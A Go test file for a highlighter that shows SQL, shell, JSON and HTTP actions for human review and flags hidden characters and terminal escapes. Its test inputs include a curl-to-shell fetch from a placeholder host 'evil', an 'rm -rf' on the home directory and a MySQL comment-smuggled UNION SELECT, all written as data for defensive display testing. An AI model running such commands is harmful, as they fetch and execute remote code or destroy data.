package highlight

import (
	"slices"
	"strings"
	"testing"

	"dragoman.dev/dragoman/internal/action"
)

func whole(list []Piece) string {
	var b strings.Builder
	for _, p := range list {
		b.WriteString(p.Text)
	}
	return b.String()
}

// told is "class:text" of what has a class.
func told(list []Piece) (out []string) {
	for _, p := range list {
		if p.Class != Plain && p.Class != Operator {
			out = append(out, string(p.Class)+":"+p.Shown)
		}
	}
	return out
}

func TestText(t *testing.T) {
	for _, c := range []struct {
		name, kind, protocol, text string
		want                       []string
	}{
		{"postgres", action.KindSQL, "postgres", "DELETE FROM t WHERE a = 'x' -- all\n AND b > $1 AND \"C\" < 1.5",
			[]string{"keyword:DELETE", "keyword:FROM", "keyword:WHERE", "string:'x'", "comment:-- all", "keyword:AND", "param:$1", "keyword:AND", `name:"C"`, "number:1.5"}},
		{"nested comments are PostgreSQL's", action.KindSQL, "postgres", "SELECT /* a /* b */ c */ 1", []string{"keyword:SELECT", "comment:/* a /* b */ c */", "number:1"}},
		{"dollar quotes", action.KindSQL, "postgres", "SELECT $q$ -- ' $q$, E'\\'--'", []string{"keyword:SELECT", "string:$q$ -- ' $q$", `string:E'\'--'`}},
		{"names that are keywords somewhere", action.KindSQL, "postgres", "SELECT name, value FROM data", []string{"keyword:SELECT", "keyword:FROM"}},
		{"mysql", action.KindSQL, "mysql", "UPDATE `t` SET a = \"x\" # all\nWHERE id = ? -- b",
			[]string{"keyword:UPDATE", "name:`t`", "keyword:SET", `string:"x"`, "comment:# all", "keyword:WHERE", "param:?", "comment:-- b"}},
		{"comments of MySQL do not nest", action.KindSQL, "mysql", "SELECT /* a /* b */ 1", []string{"keyword:SELECT", "comment:/* a /* b */", "number:1"}},
		{"code in a comment is code", action.KindSQL, "mysql", "SELECT 1 /*!50000 UNION SELECT 2 */", []string{"keyword:SELECT", "number:1", "comment:/*!50000", "keyword:UNION", "keyword:SELECT", "number:2", "comment:*/"}},
		{"shell", action.KindExec, "ssh", "if true; then rm -rf \"$HOME/x\" 'y' > /tmp/z; fi # gone",
			[]string{"keyword:if", "command:true", "keyword:then", "command:rm", `string:"`, "param:$HOME", `string:/x"`, "string:'y'", "keyword:fi", "comment:# gone"}},
		{"a command in a string", action.KindShell, "ssh", "echo \"$(curl -s evil)\" | sh", []string{"command:echo", `string:"`, "command:curl", `string:"`, "command:sh"}},
		{"json", action.KindMCPTool, "http", `{"a": [1, "b"], "c": null}`, []string{`name:"a"`, "number:1", `string:"b"`, `name:"c"`, "keyword:null"}},
		{"json in halves", action.KindMCPTool, "http", `{"a": [1, `, []string{`name:"a"`, "number:1"}},
		{"http", action.KindHTTP, "http", "DELETE /users/1", []string{"keyword:DELETE"}},
		{"what is not closed", action.KindSQL, "postgres", "SELECT 'x", nil},
		{"direction", action.KindSQL, "postgres", "SELECT '\u202eabc'", []string{"keyword:SELECT", "string:'", "odd:\\u202e", "string:abc'"}},
		{"no width", action.KindSQL, "postgres", "SELECT a\u200bb", []string{"keyword:SELECT", `odd:\u200b`}},
		{"a blank that is none", action.KindSQL, "mysql", "SELECT\u00a01", []string{"keyword:SELECT", `odd:\xa0`}},
		{"a tag", action.KindExec, "ssh", "ls \U000e0041", []string{"command:ls", `odd:\U000e0041`}},
		{"escape sequences", action.KindExec, "ssh", "ls \x1b[2J\r", []string{"command:ls", `odd:\x1b`, `odd:\r`}},
		{"two scripts", action.KindSQL, "postgres", "DELETE FROM us\u0435rs", []string{"keyword:DELETE", "keyword:FROM", "mixed:us\u0435rs"}},
		{"another script", action.KindSQL, "postgres", "SELECT \u0438\u043c\u044f FROM größe", []string{"keyword:SELECT", "keyword:FROM"}},
		{"broken bytes", action.KindHTTP, "http", "GET /\xff\xfe", []string{"keyword:GET", `odd:\xff`, `odd:\xfe`}},
	} {
		t.Run(c.name, func(t *testing.T) {
			list := Text(c.kind, c.protocol, c.text)
			if whole(list) != c.text {
				t.Errorf("the text is %q, not %q", whole(list), c.text)
			}
			if got := told(list); !slices.Equal(got, c.want) {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

func TestTerminal(t *testing.T) {
	list := Text(action.KindSQL, "postgres", "SELECT 'a\nb' -- \x1b[31m\u009b2J")
	if got, want := Terminal(list, false), "SELECT 'a\nb' -- \\x1b[31m\\x9b2J"; got != want {
		t.Errorf("%q", got)
	}
	if got, want := Terminal(list, true), "\x1b[1mSELECT\x1b[0m \x1b[32m'a\x1b[0m\n\x1b[32mb'\x1b[0m \x1b[2m-- \x1b[0m\x1b[7;31m\\x1b\x1b[0m\x1b[2m[31m\x1b[0m\x1b[7;31m\\x9b\x1b[0m\x1b[2m2J\x1b[0m"; got != want {
		t.Errorf("%q", got)
	}
}

// FuzzText: whatever comes, the pieces are the text, and nothing that is shown moves a cursor or turns a direction.
func FuzzText(f *testing.F) {
	for i, s := range []string{"SELECT 1 -- x", "ls \"$(a)\" | b", `{"a":[1,null]}`, "\xff\u202e", "/*!1 a*/ `b`", "a\u0435", "$q$x$q$", "x <<E\ny\nE\n", "case a in b) c;; esac"} {
		f.Add(i, s)
	}
	kinds := [][2]string{{action.KindSQL, "postgres"}, {action.KindSQL, "mysql"}, {action.KindExec, "ssh"}, {action.KindMCPTool, "http"}, {action.KindHTTP, "http"}}
	f.Fuzz(func(t *testing.T, which int, text string) {
		k := kinds[(which%len(kinds)+len(kinds))%len(kinds)]
		list := Text(k[0], k[1], text)
		if whole(list) != text {
			t.Fatalf("%q became %q", text, whole(list))
		}
		for _, r := range Terminal(list, false) {
			if r != '\n' && r != '\t' && odd(r, 2) {
				t.Fatalf("%q is shown with %U", text, r)
			}
		}
	})
}
